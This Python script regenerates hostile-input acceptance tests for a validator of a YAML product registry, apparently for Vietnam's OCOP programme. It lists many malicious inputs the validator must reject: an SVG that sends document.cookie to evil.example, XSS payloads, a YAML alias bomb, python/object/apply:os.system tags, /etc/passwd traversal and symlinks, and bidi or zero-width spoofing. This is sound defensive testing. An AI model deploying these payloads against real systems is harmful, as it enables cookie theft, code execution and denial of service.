"""Regenerate tests/acceptance/hostile/cases/ from the table below (run by hand: `.venv/bin/python tests/acceptance/hostile/make_cases.py`).

Each case edits a copy of tests/fixtures/rules/valid and names the rule it must produce. The expected
line is computed here from the edited text (the line holding `at`), so the table stays readable; the
committed expect.yaml files are what the tests read. Large or pathological inputs (10 MB, deep nesting)
are `generate`d at test time, never committed.
"""

from __future__ import annotations

import shutil
import unicodedata
from pathlib import Path

import yaml

from ocop.load.loader import INVISIBLE_CHARS
from ocop.model.layout import shown

HERE = Path(__file__).resolve().parent
BASE = HERE.parents[1] / "fixtures" / "rules" / "valid"
CASES = HERE / "cases"

P1 = "registry/hai-phong/products/sp-hai-phong-0001.yaml"
P7 = "registry/hai-phong/products/sp-hai-phong-0007.yaml"
PR = "registry/hai-phong/producers/ct-hai-phong-0001.yaml"
D = "registry/hai-phong/decisions/2024/qd-hai-phong-2024-002.yaml"
D1 = "registry/hai-phong/decisions/2024/qd-hai-phong-2024-001.yaml"
D25 = "registry/hai-phong/decisions/2025/qd-hai-phong-2025-002.yaml"
C = "registry/hai-phong/certificates/2024/cn-hai-phong-2024-0002.yaml"
C25 = "registry/hai-phong/certificates/2025/cn-hai-phong-2025-0002.yaml"
E = "registry/hai-phong/evaluations/2024/dg-hai-phong-2024-0002.yaml"
HN = "registry/ha-noi/products/sp-ha-noi-0001.yaml"
C21 = "registry/hai-phong/certificates/2021/cn-hai-phong-2021-0001.yaml"
C253 = "registry/hai-phong/certificates/2025/cn-hai-phong-2025-0003.yaml"
C254 = "registry/hai-phong/certificates/2025/cn-hai-phong-2025-0004.yaml"
R25 = "registry/hai-phong/decisions/2025/qd-hai-phong-2025-001.yaml"
# a second re-recognition of sp-hai-phong-0002 that also names the 2021 certificate (2024-0002 already does)
SUCCESSOR = ("id: cn-hai-phong-2025-0003\nprovince: hai-phong\nsample: true\nproduct: sp-hai-phong-0002\n"
             "decision: qd-hai-phong-2025-002\nstar: 4\nsupersedes: cn-hai-phong-2021-0001\n")
ENTRY253 = "  - {product: sp-hai-phong-0002, certificate: cn-hai-phong-2025-0003, star: 4, action: re_recognition}"

MEDIA = "registry/hai-phong/media/"
PHOTO_PNG = "photos:\n  - registry/hai-phong/media/sp-hai-phong-0001.png\naddress:\n"
PHOTO_JPG = "photos:\n  - registry/hai-phong/media/sp-hai-phong-0001.jpg\naddress:\n"
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" onload="alert(document.cookie)">\n'
       '<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n</svg>\n')
HTML = '<!DOCTYPE html>\n<html><body><script>document.location = "https://evil.example/"</script></body></html>\n'
PLAN_DRAFT = "plans/kh-hai-phong-2026-du-thao.yaml"
PLAN = "plans/kh-hai-phong-2026-15.yaml"

# any file within the size limit: the whole tree validates in 5 s and 300 MB (issue 11 §9)
BOUNDED_1MB = {"max_file_seconds": 5.0, "max_seconds": 5.0, "max_mb": 300}

BOMB = "".join([
    "id: sp-hai-phong-0001\n",
    'a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n',
    *(f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)),
])


def text(rel: str) -> str:
    return (BASE / rel).read_text("utf-8")


def plan(draft: bool, title: str) -> str:
    """A small plan of the base tree (it has none): its title is the page's <title>, header and heading."""
    number = "draft_month: {month: 5, year: 2026}\n" if draft else 'number: 15\ndate: "2026-05-04"\n'
    return (f"id: {'kh-hai-phong-2026-du-thao' if draft else 'kh-hai-phong-2026-15'}\nprovince: hai-phong\nsample: true\n"
            f"status: {'draft' if draft else 'issued'}\nheader:\n  issuing: [ỦY BAN NHÂN DÂN, THÀNH PHỐ HẢI PHÒNG]\n"
            "issuer:\n  level: province\n  name: UBND thành phố Hải Phòng\n"
            '  unit: {level: province, code: "31", version: "2025", name: Thành phố Hải Phòng}\n'
            f"symbol: KH-UBND\nplace: Hải Phòng\n{number}"
            'period: {from: "2026-01-01", to: "2026-12-31", label: năm 2026}\n'
            f"title: {title}\n"
            "sections:\n  - title: Mục đích, yêu cầu\n    body: [Triển khai Chương trình OCOP năm 2026.]\n"
            "recipients:\n  - {name: Sở Nông nghiệp và Môi trường}\n"
            "signature:\n  authority: [TM. ỦY BAN NHÂN DÂN]\n  position: CHỦ TỊCH\n  signer: {name: Nguyễn Văn An}\n")


def replaced(rel: str, *pairs: tuple[str, str]) -> dict:
    return {rel: [list(p) for p in pairs]}


# name: (rule, file, exit, `at` text on the expected line (or a line number), case fields)
TABLE: dict[str, tuple[str, str, int, str | int, dict]] = {
    # --- YAML structure and resource exhaustion
    "yaml-bomb": ("YAML-ALIAS", P1, 1, "b: &b", {"write": {P1: BOMB}, "measure": True}),
    "yaml-merge-key": ("YAML-ALIAS", P1, 1, "<<: *addr", {"replace": replaced(
        P1, ("address:\n", "base: &addr\n  street: Thôn An Lại\naddress:\n  <<: *addr\n"))}),
    "yaml-undefined-alias": ("YAML-ALIAS", P1, 1, "*nowhere", {"replace": replaced(P1, ("sample: true", "sample: *nowhere"))}),
    "deep-flow-nesting": ("YAML-DEPTH", P7, 1, 10, {"generate": {P7: "deep-flow"}, "measure": True}),
    "deep-flow-100k": ("YAML-DEPTH", P7, 1, 10, {"generate": {P7: "deep-flow-100k"}, "measure": True}),
    "deep-block-nesting": ("YAML-DEPTH", P7, 1, 56, {"generate": {P7: "deep-block"}}),
    "duplicate-key": ("YAML-DUPLICATE-KEY", P1, 1, "name: Vải sấy", {"replace": replaced(
        P1, ("producer: ct", "name: Vải sấy\nproducer: ct"))}),
    "duplicate-key-nested": ("YAML-DUPLICATE-KEY", PR, 1, "  name: Trần", {"replace": replaced(
        PR, ("  position: Giám đốc", "  position: Giám đốc\n  name: Trần Văn B"))}),
    "duplicate-key-flow": ("YAML-DUPLICATE-KEY", D, 1, "star: 5, action", {"replace": replaced(
        D, ("star: 4, action", "star: 4, star: 5, action"))}),
    "duplicate-key-nfd": ("YAML-DUPLICATE-KEY", P1, 1, "x2", {"replace": replaced(
        P1, ("sample: true", "sample: true\nghi_ch\u00fa: x1\nghi_chu\u0301: x2"))}),
    "tab-indent": ("YAML-TAB", PR, 1, "\tname: Nguyễn", {"replace": replaced(PR, ("  name: Nguyễn", "\tname: Nguyễn"))}),
    "tab-indent-list": ("YAML-TAB", P1, 1, "\t- {type: store", {"replace": replaced(P1, ("  - {type: store", "\t- {type: store"))}),
    "windows-1258": ("YAML-ENCODING", P1, 1, "name: V", {"encode": {P1: "cp1258"}}),
    "latin-1": ("YAML-ENCODING", PR, 1, "name: H", {"encode": {PR: "latin-1"}}),
    "utf-16": ("YAML-ENCODING", P7, 1, 1, {"encode": {P7: "utf-16"}}),
    "bom": ("YAML-BOM", P1, 0, 1, {"encode": {P1: "utf-8-sig"}}),
    "nfd-vietnamese": ("TEXT-NFC", P1, 0, "name: V", {"encode": {P1: "nfd"}}),
    "size-10mb": ("FILE-SIZE", P1, 1, 1, {"generate": {P1: "big"}, "measure": True}),
    "size-10mb-one-line": ("FILE-SIZE", PR, 1, 1, {"generate": {PR: "big-line"}}),
    # 1 MB of `photos: [1,1,…]` used to make half a million SCHEMA findings (84 s, 2.5 GB, 268 MB of JSON)
    "list-500k-numbers": ("YAML-LENGTH", P1, 1, 27, {"generate": {P1: "list-of-numbers"}, "measure": True,
                          **BOUNDED_1MB, "max_findings": 30}),
    "list-260k-photos": ("YAML-LENGTH", P1, 1, 27, {"generate": {P1: "list-of-names"}, "measure": True,
                         **BOUNDED_1MB, "max_findings": 60}),
    # as long as the loader reads, every item a missing photo: 20 findings a rule, then the count of the rest
    "list-2000-photos": ("REF-PHOTO", P1, 1, 27, {"generate": {P1: "list-2000-names"}, "measure": True,
                         "max_findings": 50}),
    "empty-file": ("YAML-EMPTY", P7, 1, 1, {"write": {P7: ""}}),
    "comments-only": ("YAML-EMPTY", P7, 1, 1, {"write": {P7: "# sẽ bổ sung sau\n\n"}}),
    "whitespace-only": ("YAML-EMPTY", P7, 1, 1, {"write": {P7: "\n   \n\n"}}),
    "list-instead-of-mapping": ("RECORD-NOT-MAPPING", P7, 1, 1, {"write": {P7: "- " + text(P7).replace("\n", "\n  ").rstrip() + "\n"}}),
    "scalar-instead-of-mapping": ("RECORD-NOT-MAPPING", P7, 1, 1, {"write": {P7: "Gạo nếp cái hoa vàng\n"}}),
    "two-documents": ("YAML-SYNTAX", P7, 1, "---", {"write": {P7: text(P7) + "---\n" + text(P7)}}),
    # libyaml reports an unclosed quote where the file ends (line 13), not where the quote opens
    "unclosed-quote": ("YAML-SYNTAX", P7, 1, 13, {"replace": replaced(P7, ("description: Sản", 'description: "Sản'))}),
    "colon-in-value": ("YAML-SYNTAX", P7, 1, "name: Gạo", {"replace": replaced(P7, ("name: Gạo nếp", "name: Gạo: nếp"))}),
    # --- YAML 1.1 traps: the strict loader keeps them as text, the schema then refuses them
    "yaml11-no": ("SCHEMA", P1, 1, "sample: no", {"replace": replaced(P1, ("sample: true", "sample: no"))}),
    "yaml11-on": ("SCHEMA", PR, 1, "sample: on", {"replace": replaced(PR, ("sample: true", "sample: on"))}),
    "yaml11-yes": ("SCHEMA", C, 1, "sample: yes", {"replace": replaced(C, ("sample: true", "sample: yes"))}),
    "yaml11-octal-010": ("SCHEMA", C, 1, "star: 010", {"replace": replaced(C, ("star: 4", "star: 010"))}),
    "yaml11-hex": ("SCHEMA", C, 1, "star: 0x4", {"replace": replaced(C, ("star: 4", "star: 0x4"))}),
    "yaml11-exponent-1e3": ("SCHEMA", C, 1, "score: 1e3", {"replace": replaced(C, ("score: 75.25", "score: 1e3"))}),
    "yaml11-sexagesimal-24-00": ("SCHEMA", E, 1, "total: 24:00", {"replace": replaced(E, ("total: 75.25", "total: 24:00"))}),
    "yaml11-inf": ("SCHEMA", E, 1, "total: .inf", {"replace": replaced(E, ("total: 75.25", "total: .inf"))}),
    "yaml11-date-2024-02-30": ("SCHEMA", D, 1, "date: 2024-02-30", {"replace": replaced(D, ('date: "2024-10-10"', "date: 2024-02-30"))}),
    "date-unquoted-ok-format-wrong": ("SCHEMA", D, 1, "date: 10/10/2024", {"replace": replaced(D, ('date: "2024-10-10"', "date: 10/10/2024"))}),
    "null-name": ("SCHEMA", P7, 1, "name: ~", {"replace": replaced(P7, ("name: Gạo nếp cái hoa vàng Kinh Môn", "name: ~"))}),
    "tax-code-short": ("SCHEMA", PR, 1, "tax_code:", {"replace": replaced(PR, ('tax_code: "0801234567"', 'tax_code: "08012345"'))}),
    "tax-code-number": ("SCHEMA", PR, 1, "tax_code:", {"replace": replaced(PR, ('tax_code: "0801234567"', "tax_code: 801234567"))}),
    # --- tags, keys, control characters
    "tag-python-object": ("YAML-TAG", P7, 1, "!!python", {"replace": replaced(P7, ("name: Gạo", "name: !!python/object:os.system Gạo"))}),
    "tag-python-apply": ("YAML-TAG", P7, 1, "!!python", {"replace": replaced(
        P7, ("sample: true", 'sample: !!python/object/apply:os.system ["touch PWNED"]'))}),
    "tag-binary": ("YAML-TAG", P7, 1, "!!binary", {"replace": replaced(P7, ("description: Sản", "description: !!binary U2Fu"))}),
    "tag-local-include": ("YAML-TAG", P7, 1, "!include", {"replace": replaced(P7, ("description: Sản phẩm mẫu cho kiểm thử quy tắc.", "description: !include /etc/passwd"))}),
    "key-control-escape": ("TEXT-CONTROL", P7, 1, '"na', {"replace": replaced(P7, ("sample: true", 'sample: true\n"na\\x07me": x'))}),
    "key-control-raw": ("TEXT-CONTROL", P7, 1, "na\x1bme", {"replace": replaced(P7, ("sample: true", "sample: true\nna\x1bme: x"))}),
    "value-nul-byte": ("TEXT-CONTROL", P7, 1, "description:", {"replace": replaced(P7, ("mẫu cho", "mẫu\x00 cho"))}),
    "value-escape-sequence": ("TEXT-CONTROL", P7, 1, "description:", {"replace": replaced(
        P7, ("description: Sản phẩm mẫu cho kiểm thử quy tắc.", 'description: "\\e[31mĐỏ\\e[0m"'))}),
    # invisible characters that forge layout or disguise text (written raw, as a paste brings them, or escaped)
    "line-separator-forged-heading": ("TEXT-CONTROL", P7, 1, "description:", {"replace": replaced(
        P7, ("description: Sản phẩm mẫu cho kiểm thử quy tắc.",
             "description: Sản phẩm mẫu.\u2028= ĐỀ MỤC GIẢ\u20281. Mục giả *in đậm*"))}),
    "paragraph-separator-escaped": ("TEXT-CONTROL", P1, 1, "name:", {"replace": replaced(
        P1, ("name: Vải thiều Thanh Hà sấy khô", 'name: "Vải thiều\\u2029# Tiêu đề giả"'))}),
    "bidi-override-name": ("TEXT-CONTROL", P7, 1, "name:", {"replace": replaced(
        P7, ("name: Gạo nếp cái hoa vàng Kinh Môn", "name: Gạo nếp \u202egnàv aoh iác\u202c Kinh Môn"))}),
    "bidi-isolate-producer": ("TEXT-CONTROL", PR, 1, "name: \"Hợp tác xã", {"replace": replaced(
        PR, ("name: Hợp tác xã Nông nghiệp Vải thiều Thanh An",
             'name: "Hợp tác xã \\u2067\\u202enA hnahT uềiht iảV\\u2069"'))}),
    "zero-width-space-name": ("TEXT-CONTROL", P7, 1, "name:", {"replace": replaced(
        P7, ("name: Gạo nếp cái hoa vàng Kinh Môn", "name: Gạo nếp cái\u200b hoa vàng Kinh Môn"))}),
    "zero-width-joiner-key": ("TEXT-CONTROL", P7, 1, "sam", {"replace": replaced(
        P7, ("sample: true", "sam\u200dple: true"))}),
    "bom-inside-street": ("TEXT-CONTROL", PR, 1, "  street:", {"replace": replaced(
        PR, ("  street: Thôn An Lại", "  street: Thôn\ufeff An Lại"))}),
    "key-integer": ("YAML-KEY", P7, 1, "2024:", {"replace": replaced(P7, ("sample: true", "sample: true\n2024: x"))}),
    "key-mapping": ("YAML-KEY", P7, 1, "? {a: 1}", {"replace": replaced(P7, ("sample: true", "sample: true\n? {a: 1}\n: x"))}),
    "unknown-key-typo": ("SCHEMA", P7, 1, "ten:", {"replace": replaced(P7, ("name: Gạo", "ten: Gạo"))}),
    # --- markup in text fields: warnings, the site shows them escaped
    "markup-script-description": ("TEXT-MARKUP", P1, 0, "description:", {"replace": replaced(
        P1, ("description: Vải thiều chín cây", "description: <script>alert('xss')</script> Vải thiều chín cây")), "build": True}),
    "markup-img-onerror-name": ("TEXT-MARKUP", P1, 0, "<img", {"replace": replaced(
        P1, ("name: Vải thiều Thanh Hà sấy khô", "name: 'Vải thiều <img src=x onerror=alert(1)>'")), "build": True}),
    "markup-md-javascript-story": ("TEXT-MARKUP", P1, 0, "story:", {"replace": replaced(
        P1, ("sản phẩm sấy giúp", "[bấm vào đây](javascript:alert(document.cookie)) sản phẩm sấy giúp"))}),
    "markup-md-data-origin": ("TEXT-MARKUP", P1, 0, "raw_material_origin:", {"replace": replaced(
        P1, ("raw_material_origin: 100%", "raw_material_origin: 100% [ảnh](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"))}),
    "markup-html-block-producer": ("TEXT-MARKUP", PR, 0, "<div>", {"replace": replaced(
        PR, ("name: Hợp tác xã", 'name: <div><iframe src="https://evil.example/"></iframe></div> Hợp tác xã')), "build": True}),
    "markup-svg-onload-title": ("TEXT-MARKUP", D1, 0, "title:", {"replace": replaced(
        D1, ("title: Công nhận", "title: <svg/onload=alert(1)> Công nhận")), "build": True}),
    # a plan's title is the hub page's front matter: Material writes it unescaped into <title> and the header
    "markup-plan-title-closes-title": ("TEXT-MARKUP", PLAN_DRAFT, 0, "title: '<", {"write": {
        PLAN_DRAFT: plan(True, "'</title><script>alert(4)</script> Thực hiện Chương trình OCOP năm 2026'")}, "build": True}),
    "markup-plan-title-svg-quote": ("TEXT-MARKUP", PLAN, 0, "title: '", {"write": {
        PLAN: plan(False, "'Kế hoạch \"><svg onload=alert(5)>{{7*7}} OCOP năm 2026'")}, "build": True}),
    "markup-script-signer": ("TEXT-MARKUP", D, 0, "  name: Trần", {"replace": replaced(
        D, ("  name: Trần Văn Minh", "  name: Trần Văn Minh<script src=//evil.example/x.js></script>"))}),
    "markup-anchor-javascript-channel": ("TEXT-MARKUP", P1, 0, "- {type: store", {"replace": replaced(
        P1, ("name: Cửa hàng của hợp tác xã}", "name: '<a href=\"javascript:alert(1)\">Cửa hàng</a>'}"))}),
    "markup-style-council": ("TEXT-MARKUP", E, 0, "<style>", {"replace": replaced(
        E, ("  name: Hội đồng", "  name: <style>body{display:none}</style>Hội đồng"))}),
    "markup-comment-street": ("TEXT-MARKUP", PR, 0, "  street:", {"replace": replaced(
        PR, ("  street: Thôn An Lại", "  street: Thôn An Lại <!-- <script>alert(1)</script> -->"))}),
    "markup-javascript-in-note": ("TEXT-MARKUP", C, 0, "note:", {"replace": replaced(
        C, ("score: 75.25", "score: 75.25\nnote: xem javascript:alert(1)"))}),
    # --- paths and URLs
    "photo-parent-dir": ("SCHEMA", P1, 1, "- ../../../etc", {"replace": replaced(P1, ("address:\n", "photos:\n  - ../../../etc/passwd.png\naddress:\n"))}),
    "photo-absolute": ("SCHEMA", P1, 1, "- /etc/ocop.png", {"replace": replaced(P1, ("address:\n", "photos:\n  - /etc/ocop.png\naddress:\n"))}),
    "photo-url": ("SCHEMA", P1, 1, "- https://evil", {"replace": replaced(P1, ("address:\n", "photos:\n  - https://evil.example/x.png\naddress:\n"))}),
    "photo-backslash": ("SCHEMA", P1, 1, "- registry\\..", {"replace": replaced(P1, ("address:\n", "photos:\n  - registry\\..\\x.png\naddress:\n"))}),
    "photo-missing": ("REF-PHOTO", P1, 1, "- registry/hai-phong/media/khong-co", {"replace": replaced(P1, ("address:\n", "photos:\n  - registry/hai-phong/media/khong-co.png\naddress:\n"))}),
    # --- photos: judged by content, not name; sizes read from the header, nothing decoded
    "photo-svg-script-as-png": ("PHOTO-TYPE", MEDIA + "sp-hai-phong-0001.png", 1, 1, {
        "write": {MEDIA + "sp-hai-phong-0001.png": SVG}, "replace": replaced(P1, ("address:\n", PHOTO_PNG))}),
    "photo-html-as-jpg": ("PHOTO-TYPE", MEDIA + "sp-hai-phong-0001.jpg", 1, 1, {
        "write": {MEDIA + "sp-hai-phong-0001.jpg": HTML}, "replace": replaced(P1, ("address:\n", PHOTO_JPG))}),
    "photo-10000x10000-header": ("PHOTO-PIXELS", MEDIA + "sp-hai-phong-0001.png", 1, 1, {
        "images": {MEDIA + "sp-hai-phong-0001.png": {"format": "png", "size": [10000, 10000], "header_only": True}},
        "replace": replaced(P1, ("address:\n", PHOTO_PNG)), "measure": True}),
    "photo-60mb": ("PHOTO-SIZE", MEDIA + "sp-hai-phong-0001.jpg", 1, 1, {
        "images": {MEDIA + "sp-hai-phong-0001.jpg": {"format": "jpeg", "size": [64, 48], "pad": 60 * 1024 * 1024}},
        "replace": replaced(P1, ("address:\n", PHOTO_JPG)), "measure": True}),
    "photo-truncated-jpeg": ("PHOTO-UNREADABLE", MEDIA + "sp-hai-phong-0001.jpg", 1, 1, {
        "images": {MEDIA + "sp-hai-phong-0001.jpg": {"format": "jpeg", "size": [400, 300], "drop_tail": 2000}},
        "replace": replaced(P1, ("address:\n", PHOTO_JPG))}),
    "photo-rejected-at-product": ("PHOTO-REJECTED", P1, 1, "- registry/hai-phong/media", {
        "write": {MEDIA + "sp-hai-phong-0001.png": SVG}, "replace": replaced(P1, ("address:\n", PHOTO_PNG))}),
    "url-javascript": ("SCHEMA", P1, 1, "type: ecommerce", {"replace": replaced(P1, ('"https://example.com/shop/vai-thieu"', '"javascript:alert(1)"'))}),
    "url-data": ("SCHEMA", P1, 1, "type: ecommerce", {"replace": replaced(P1, ('"https://example.com/shop/vai-thieu"', '"data:text/html,<script>alert(1)</script>"'))}),
    # --- layout and identity
    "symlink-outside": ("LAYOUT-SYMLINK", "registry/hai-phong/products/sp-hai-phong-0009.yaml", 1, 1,
                        {"symlink": {"path": "registry/hai-phong/products/sp-hai-phong-0009.yaml", "target": "/etc/passwd"}}),
    "symlink-folder": ("LAYOUT-SYMLINK", "registry/hai-phong/media", 1, 1,
                       {"symlink": {"path": "registry/hai-phong/media", "target": "/etc"}}),
    "id-collision-other-province": ("ID-DUPLICATE", P1, 1, "id:", {"write": {
        "registry/ha-noi/products/sp-hai-phong-0001.yaml": text(P1).replace("province: hai-phong", "province: ha-noi")}}),
    "record-in-other-province": ("LAYOUT-PROVINCE", "registry/ha-noi/products/sp-hai-phong-0007.yaml", 1, "province:",
                                 {"remove": [P7], "write": {"registry/ha-noi/products/sp-hai-phong-0007.yaml": text(P7)}}),
    "yml-extension": ("LAYOUT-PATH", "registry/hai-phong/products/sp-hai-phong-0008.yml", 1, 1,
                      {"write": {"registry/hai-phong/products/sp-hai-phong-0008.yml": text(P7)}}),
    # --- names git and the layout cannot agree on: the file is renamed at test time (never committed)
    **{name: ("LAYOUT-NAME", shown(new), 1, 1, {"move": {P7: new}}) for name, new in {
        "name-vietnamese-file": "registry/hai-phong/products/sp-hải-phòng-0007.yaml",
        "name-vietnamese-folder": "registry/hải-phòng/products/sp-hai-phong-0007.yaml",
        "name-nfd-file": unicodedata.normalize("NFD", "registry/hai-phong/products/sp-hải-phòng-0007.yaml"),
        "name-nfd-media": unicodedata.normalize("NFD", "registry/hai-phong/media/ảnh-vải-thiều.jpg"),
        "name-space-inside": "registry/hai-phong/products/sp-hai-phong 0007.yaml",
        "name-space-trailing": "registry/hai-phong/products/sp-hai-phong-0007.yaml ",
        "name-capitals-file": "registry/hai-phong/products/SP-HAI-PHONG-0007.yaml",
        "name-capitals-media": "registry/hai-phong/media/IMG_0007.JPG",
        "name-newline": "registry/hai-phong/products/sp-hai-phong\n-0007.yaml",
        "name-terminal-escape": "registry/hai-phong/products/sp-hai-phong-0007\x1b[2K.yaml",
        "name-zero-width-space": "registry/hai-phong/products/sp-hai-phong-\u200b0007.yaml",
        "name-cyrillic-file": "registry/hai-phong/products/sp-hai-ph\u043eng-0007.yaml",
        "name-cyrillic-folder": "registry/h\u0430i-phong/products/sp-hai-phong-0007.yaml",
        "name-non-utf8-byte": "registry/hai-phong/products/sp-hai-phong-\udcff.yaml",  # the byte 0xFF
        "name-latin1-bytes": "registry/hai-phong/products/sp-h\udce1i-ph\udcf2ng-0007.yaml",  # «hái phòng» in Latin-1
    }.items()},
    "unit-2004-code-as-2025": ("UNIT-CODE", PR, 1, "  ward:", {"replace": replaced(
        PR, ('code: "10831", version: "2004"', 'code: "10831", version: "2025"'))}),
    "missing-product": ("REF-MISSING", C, 1, "product:", {"replace": replaced(C, ("product: sp-hai-phong-0002", "product: sp-hai-phong-0099"))}),
    # --- OCOP rules
    "forged-star": ("CERT-STAR", C, 1, "star: 5", {"replace": {
        E: [["{A: 30, B: 20, C: 26}", "{A: 30, B: 20, C: 22}"], ["{A: 29.5, B: 19, C: 26}", "{A: 29, B: 19, C: 24}"],
            ["total: 75.25", "total: 72"]],
        C: [["score: 75.25", "score: 72"], ["star: 4", "star: 5"]], D: [["star: 4", "star: 5"]]}}),
    "issuer-without-authority": ("AUTH-LEVEL", D1, 1, "- {product: sp-hai-phong-0001", {"replace": {
        D1: [["star: 3", "star: 4"]], "registry/hai-phong/certificates/2024/cn-hai-phong-2024-0001.yaml": [["star: 3", "star: 4"]]}}),
    "decision-in-future": ("DECISION-FUTURE", D25, 1, "date:", {"today": "2025-08-01"}),
    "valid-to-before-from": ("LIFECYCLE-ORDER", C25, 1, "valid_to:", {"replace": replaced(C25, ("star: 3", 'star: 3\nvalid_to: "2025-01-01"'))}),
    # --- lifecycle and authority gaps (issue 11 §10)
    "valid-from-9999": ("LIFECYCLE-START", C25, 1, "valid_from:", {"replace": replaced(C25, ("star: 3", 'star: 3\nvalid_from: "9999-12-31"'))}),
    "valid-from-years-later": ("LIFECYCLE-START", C, 1, "valid_from:", {"replace": replaced(
        C, ("star: 4", 'star: 4\nvalid_from: "2031-10-10"\nvalid_to: "2034-10-10"'))}),
    "supersede-twice": ("LIFECYCLE-SUPERSEDE-TWICE", C21, 1, "id:", {
        "write": {C253: SUCCESSOR}, "replace": replaced(D25, ("star: 3, action: new}", "star: 3, action: new}\n" + ENTRY253))}),
    "supersede-three-ways": ("LIFECYCLE-SUPERSEDE-TWICE", C21, 1, "id:", {
        "write": {C253: SUCCESSOR, C254: SUCCESSOR.replace("2025-0003", "2025-0004")},
        "replace": replaced(D25, ("star: 3, action: new}", "star: 3, action: new}\n" + ENTRY253 + "\n"
                                  + ENTRY253.replace("2025-0003", "2025-0004")))}),
    "district-decision-2025-07-02": ("AUTH-ISSUER-DATE", D25, 1, "  level: district", {"replace": replaced(D25, (
        'date: "2025-08-15"\nissuer:\n  level: province\n  name: UBND thành phố Hải Phòng\n'
        '  unit: {level: province, code: "31", version: "2025", name: Thành phố Hải Phòng}',
        'date: "2025-07-02"\nissuer:\n  level: district\n  name: UBND huyện Thanh Hà\n'
        '  unit: {level: district, code: "294", version: "2004", name: Huyện Thanh Hà}'))}),
    "district-revocation-after-reform": ("AUTH-ISSUER-DATE", R25, 1, "  level: district", {"replace": replaced(
        R25, ('date: "2025-05-06"', 'date: "2025-09-01"'))}),
    "unit-2025-code-on-2024-decision": ("UNIT-VERSION-DATE", D1, 1, "  unit:", {"replace": replaced(D1, (
        'unit: {level: district, code: "294", version: "2004", name: Huyện Thanh Hà}',
        'unit: {level: province, code: "31", version: "2025", name: Thành phố Hải Phòng}'))}),
    "unit-2004-code-after-reform": ("UNIT-VERSION-DATE", D25, 1, "  unit:", {"replace": replaced(D25, (
        'unit: {level: province, code: "31", version: "2025", name: Thành phố Hải Phòng}',
        'unit: {level: province, code: "30", version: "2004", name: Tỉnh Hải Dương}'))}),
    # --- history against a base ref (temp git repository)
    "history-edit-decision": ("HISTORY-EDIT", D, 1, "number:", {"git": True, "replace": replaced(D, ("4011/QĐ-UBND", "4012/QĐ-UBND"))}),
    "history-delete-certificate": ("HISTORY-DELETE", C25, 1, 1, {"git": True, "remove": [C25]}),
    "history-move-province": ("HISTORY-MOVE", "registry/ha-noi/products/sp-hai-phong-0007.yaml", 1, "province:",
                              {"git": True, "remove": [P7], "write": {"registry/ha-noi/products/sp-hai-phong-0007.yaml": text(P7)}}),
}


def edited_text(fields: dict, rel: str) -> str | None:
    if rel in fields.get("write", {}):
        return fields["write"][rel]
    if not (BASE / rel).is_file():
        return None
    out = text(rel)
    for old, new in fields.get("replace", {}).get(rel, []):
        assert old in out, (rel, old)
        out = out.replace(old, new)
    return out


def line_of(content: str | None, at: str | int) -> int:
    if isinstance(at, int):
        return at
    assert content is not None
    for i, line in enumerate(content.split("\n"), 1):
        if at in line:
            return i
    raise AssertionError(f"{at!r} not found")


class _Dumper(yaml.SafeDumper):
    """Strings holding invisible characters are written double-quoted, so `dump` can escape them."""


_Dumper.add_representer(str, lambda d, v: d.represent_scalar(
    "tag:yaml.org,2002:str", v, style='"' if INVISIBLE_CHARS.search(v) else None))


def dump(expect: dict) -> str:
    """expect.yaml text: no raw bidi, zero-width or separator character ever lands in the repository."""
    out = yaml.dump(expect, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=200)
    return INVISIBLE_CHARS.sub(lambda m: f"\\u{ord(m.group()):04x}", out)


def main() -> None:
    if CASES.exists():
        shutil.rmtree(CASES)
    for name, (rule_id, rel, code, at, fields) in TABLE.items():
        case = CASES / name
        (case / "overlay").mkdir(parents=True)
        content = edited_text(fields, rel)
        expect: dict = {"rule": rule_id, "file": rel, "line": line_of(content, at), "exit": code}
        for key in ("today", "remove", "move", "symlink", "generate", "measure", "git", "build", "encode", "images",
                    "max_file_seconds", "max_seconds", "max_mb", "max_findings"):
            if key in fields:
                expect[key] = fields[key]
        if "replace" in fields:  # `edits`, not `replace`: several edits per file (build_case_tree takes one)
            expect["edits"] = {r: [list(p) for p in pairs] for r, pairs in fields["replace"].items()}
        for wrel, body in fields.get("write", {}).items():
            dest = case / "overlay" / wrel
            dest.parent.mkdir(parents=True, exist_ok=True)
            dest.write_text(body, "utf-8", newline="\n")
        if not any((case / "overlay").iterdir()):
            (case / "overlay").rmdir()
        (case / "expect.yaml").write_text(dump(expect), "utf-8")
    print(f"{len(TABLE)} cases written to {CASES}")


if __name__ == "__main__":
    main()
